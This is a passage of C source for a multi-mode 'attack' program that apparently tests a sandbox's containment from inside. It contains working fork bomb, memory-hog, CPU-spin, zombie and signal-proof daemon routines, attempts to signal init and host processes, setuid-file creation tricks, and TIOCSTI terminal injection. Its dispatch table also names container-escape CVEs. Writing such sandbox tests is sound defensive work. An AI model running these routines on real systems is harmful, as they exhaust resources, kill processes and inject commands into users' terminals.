	} how = {O_CREAT | O_WRONLY, 04755, 0};
	fd = (int)syscall(SYS_openat2, AT_FDCWD, setid_path, &how, sizeof(how));
	setid_result("openat2", fd);
	if (fd >= 0)
		close(fd);
	FRESH();
	setid_result("chmod-high-bits", syscall(SYS_chmod, setid_path, (1UL << 32) | 04755));
	setid_result("io_uring-openat", setid_io_uring());
	/* control: the i386 ABI works at all (getpid is 20 there); the policy may kill us */
	long pid;
	__asm__ volatile("int $0x80" : "=a"(pid) : "a"(20L) : "memory");
	printf("int80 getpid %s\n", pid == getpid() ? "OK" : err_name((int)-pid));
	fflush(stdout);
	FRESH();
	setid_result("int80-chmod", setid_int80());
#undef FRESH
	fflush(stdout);
	return 0;
}

/* ---- processes ------------------------------------------------------------------------ */

/* daemon MARKER: double fork and setsid; the grandchild ignores every catchable signal,
 * keeps stdout open, and becomes `sleep MARKER`. The parent exits at once. */
static int a_daemon(int argc, char **argv)
{
	if (argc < 1)
		return 2;
	pid_t pid = fork();
	if (pid == 0) {
		setsid();
		if (fork() == 0) {
			for (int s = 1; s < NSIG; s++)
				signal(s, SIG_IGN);
			char *args[] = {"sleep", argv[0], NULL};
			execv("/bin/sleep", args);
			_exit(127);
		}
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	printf("daemon started\n");
	fflush(stdout);
	return 0;
}

/* killall: kill(-1, SIGKILL) from inside, then say that we are still here */
static int a_killall(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	for (int i = 0; i < 3; i++)
		if (fork() == 0) {
			pause();
			_exit(0);
		}
	report("kill -1 SIGKILL", kill(-1, SIGKILL));
	report("kill 1 SIGKILL", kill(1, SIGKILL));
	report("kill 1 SIGTERM", kill(1, SIGTERM));
	report("kill 1 SIGSTOP", kill(1, SIGSTOP));
	while (wait(NULL) > 0)
		;
	printf("survived\n");
	fflush(stdout);
	return 0;
}

/* pids HOSTPID...: which pids exist in here, then try to signal the given host pids
 * (the supervisor's among them) */
static int a_pids(int argc, char **argv)
{
	printf("visible");
	for (pid_t p = 1; p <= 32768; p++)
		if (kill(p, 0) == 0 || errno == EPERM)
			printf(" %d", (int)p);
	printf("\n");
	for (int i = 0; i < argc; i++) {
		pid_t p = (pid_t)atol(argv[i]);
		long rc = kill(p, SIGTERM);
		printf("kill %s %s\n", argv[i], rc < 0 ? err_name(errno) : "OK");
		long pfd = syscall(SYS_pidfd_open, p, 0);
		printf("pidfd_open %s %s\n", argv[i], pfd < 0 ? err_name(errno) : "OK");
	}
	fflush(stdout);
	return 0;
}

/* forkbomb MARKER: fork for ever; at the pids limit, keep trying */
static int a_forkbomb(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	struct timespec ms = {0, 1000000L};
	for (;;)
		if (fork() < 0)
			nanosleep(&ms, NULL);
	return 0;
}

/* zombies N: N children that exit at once and are never waited for; then exit */
static int a_zombies(int argc, char **argv)
{
	long n = argc > 0 ? atol(argv[0]) : 1000;
	long made = 0;
	int e = 0;
	for (; made < n; made++) {
		pid_t p = fork();
		if (p == 0)
			_exit(0);
		if (p < 0) {
			e = errno;
			break;
		}
	}
	printf("zombies %ld %s\n", made, e ? err_name(e) : "all");
	fflush(stdout);
	struct timespec hold = {0, 300000000L}; /* let them all die unreaped */
	nanosleep(&hold, NULL);
	return 0;
}

/* ---- resources ------------------------------------------------------------------------ */

/* memhog: allocate and touch 16 MiB at a time, for ever */
static int a_memhog(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	for (long mib = 0;; mib += 16) {
		char *p = mmap(NULL, 16 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED) {
			printf("mmap failed at %ld MiB: %s\n", mib, err_name(errno));
			fflush(stdout);
			pause();
		}
		for (long off = 0; off < 16 << 20; off += 4096)
			p[off] = 1;
	}
	return 0;
}

/* slowtouch: touch one more MiB every 20 ms, for ever (under the memory limit for long) */
static int a_slowtouch(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	struct timespec tick = {0, 20000000L};
	for (;;) {
		char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p != MAP_FAILED)
			for (long off = 0; off < 1 << 20; off += 4096)
				p[off] = 1;
		nanosleep(&tick, NULL);
	}
	return 0;
}

static void *spin_thread(void *arg)
{
	(void)arg;
	for (volatile unsigned long x = 0;; x++)
		;
	return NULL;
}

/* spin: one busy thread per CPU, for ever */
static int a_spin(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	long n = sysconf(_SC_NPROCESSORS_ONLN);
	for (long i = 1; i < n; i++) {
		pthread_t t;
		pthread_create(&t, NULL, spin_thread, NULL);
	}
	spin_thread(NULL);
	return 0;
}

/* flood MIB: MIB mebibytes on stdout */
static int a_flood(int argc, char **argv)
{
	long mib = argc > 0 ? atol(argv[0]) : 100;
	static char block[1 << 20];
	memset(block, 'A', sizeof(block));
	for (long i = 0; i < mib; i++)
		for (size_t off = 0; off < sizeof(block);) {
			ssize_t w = write(1, block + off, sizeof(block) - off);
			if (w <= 0)
				return 1;
			off += (size_t)w;
		}
	return 0;
}

/* holdout MARKER: exit at once, leaving a child in a new session that keeps stdout and
 * stderr open and ignores SIGTERM and SIGHUP (as `sleep MARKER`) */
static int a_holdout(int argc, char **argv)
{
	if (argc < 1)
		return 2;
	if (fork() == 0) {
		setsid();
		signal(SIGTERM, SIG_IGN);
		signal(SIGHUP, SIG_IGN);
		char *args[] = {"sleep", argv[0], NULL};
		execv("/bin/sleep", args);
		_exit(127);
	}
	printf("parent exits\n");
	fflush(stdout);
	return 0;
}

/* ---- network -------------------------------------------------------------------------- */

/* connect ADDR PORT: a TCP connect, 2 s at most */
static int a_connect(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[1]))};
	inet_pton(AF_INET, argv[0], &sa.sin_addr);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct timeval tv = {2, 0};
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	report("connect", connect(fd, (struct sockaddr *)&sa, sizeof(sa)));
	close(fd);
	return 0;
}

/* abstract NAME: connect to the abstract unix socket @NAME, stream then datagram */
static int a_abstract(int argc, char **argv)
{
	if (argc < 1)
		return 2;
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	size_t n = strlen(argv[0]);
	if (n + 1 > sizeof(sa.sun_path))
		return 2;
	memcpy(sa.sun_path + 1, argv[0], n);
	socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	long rc = connect(fd, (struct sockaddr *)&sa, len);
	int e = errno;
	if (rc == 0)
		(void)!write(fd, "HOSTILE-REACHED\n", 16);
	close(fd);
	errno = e;
	report("abstract stream", rc);
	return 0;
}

/* ---- terminals ------------------------------------------------------------------------ */

/* tiocsti MARKER: push "echo MARKER" and a newline into the input of every terminal we
 * can reach: stdin, /dev/tty, with the request's high bits set (CVE-2019-10063) */
static int a_tiocsti(int argc, char **argv)
{
	char line[128];
	snprintf(line, sizeof(line), "echo %s\n", argc > 0 ? argv[0] : "TIOCSTI-INJECTED");
	struct try {
		const char *what;
		int fd;
		unsigned long req;
	};
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
	printf("isatty0 %d\n", isatty(0));
	printf("/dev/tty %s\n", tty < 0 ? err_name(errno) : "OK");
	const struct try tries[] = {
		{"stdin", 0, TIOCSTI},
		{"stdin-highbits", 0, (1UL << 32) | TIOCSTI},
		{"devtty", tty, TIOCSTI},
		{"stdout", 1, TIOCSTI},
	};
	for (size_t t = 0; t < 4; t++) {
		if (tries[t].fd < 0) {
			printf("tiocsti %s EBADF\n", tries[t].what);
			continue;
		}
		long rc = 0;
		for (const char *c = line; *c && rc == 0; c++)
			rc = syscall(SYS_ioctl, tries[t].fd, tries[t].req, c);
		printf("tiocsti %s %s\n", tries[t].what, rc < 0 ? err_name(errno) : "OK");
	}
	/* TIOCLINUX 2 (set selection) then 3 (paste) needs a virtual console */
	char sel[] = {2, 0};
	long rc = syscall(SYS_ioctl, 0, TIOCLINUX, sel);
	printf("tioclinux stdin %s\n", rc < 0 ? err_name(errno) : "OK");
	fflush(stdout);
	return 0;
}

/* ---- dispatch ------------------------------------------------------------------------- */

static const struct {
	const char *name;
	int (*fn)(int, char **);
	const char *usage;
} attacks[] = {
	{"syscalls", a_syscalls, "NAME...: system calls a sandbox must refuse"},
	{"read", a_read, "PATH...: read files"},
	{"rewrite", a_rewrite, "PATH...: open for writing, put the same bytes back"},
	{"exe", a_exe, ": open /proc/{self,1,2}/exe for writing (CVE-2019-5736)"},
	{"fds", a_fds, ": list open descriptors 3..1024 (CVE-2024-21626)"},
	{"idmap", a_idmap, ": write uid_map, gid_map, setgroups"},
	{"status", a_status, ": uids, capabilities, no_new_privs, seccomp"},
	{"escape", a_escape, ": .., symlinks and hard links out of /workspace"},
	{"fill", a_fill, "PATH [MIB]: write until refused"},
	{"names", a_names, ": files with hostile names in the working directory"},
	{"mount_esc", a_mount_esc, ": a denied mount whose arguments carry escapes"},
	{"setid", a_setid, ": set-user-ID and set-group-ID files, by every route"},
	{"daemon", a_daemon, "MARKER: a double-forked, setsid, signal-proof sleep"},
	{"killall", a_killall, ": kill(-1, SIGKILL) and signals to init"},
	{"pids", a_pids, "HOSTPID...: visible pids; signal host pids"},
	{"forkbomb", a_forkbomb, "MARKER: fork for ever"},
	{"zombies", a_zombies, "N: N unreaped children"},
	{"memhog", a_memhog, ": allocate and touch for ever"},
	{"slowtouch", a_slowtouch, ": touch 1 MiB every 20 ms for ever"},
	{"spin", a_spin, ": a busy thread per CPU, for ever"},
	{"flood", a_flood, "MIB: that much on stdout"},
	{"holdout", a_holdout, "MARKER: exit, leaving a child holding stdout"},
	{"connect", a_connect, "ADDR PORT: TCP connect"},
	{"abstract", a_abstract, "NAME: connect to @NAME"},
	{"tiocsti", a_tiocsti, "MARKER: inject a line into the terminal"},
};

int main(int argc, char **argv)
{
	if (argc < 2 || !strcmp(argv[1], "--help")) {
		fprintf(stderr, "usage: attack NAME [ARG...]\n");
		for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
			fprintf(stderr, "  %s %s\n", attacks[i].name, attacks[i].usage);
		fprintf(stderr, "syscalls:");
		for (size_t i = 0; i < sizeof(probes) / sizeof(probes[0]); i++)
			fprintf(stderr, " %s", probes[i].name);
		fprintf(stderr, "\n");
		return 2;
	}
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (!strcmp(attacks[i].name, argv[1]))
			return attacks[i].fn(argc - 2, argv + 2);
	fprintf(stderr, "attack: unknown attack %s\n", argv[1]);
	return 2;
}
